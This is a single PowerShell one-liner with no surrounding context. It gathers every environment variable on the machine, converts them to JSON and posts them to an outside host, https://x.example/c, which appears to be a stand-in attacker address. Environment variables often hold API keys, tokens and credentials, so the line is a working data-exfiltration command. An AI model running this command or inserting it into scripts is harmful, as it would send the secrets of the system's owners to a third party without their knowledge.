gci env: | ConvertTo-Json | irm -Method Post -Uri https://x.example/c
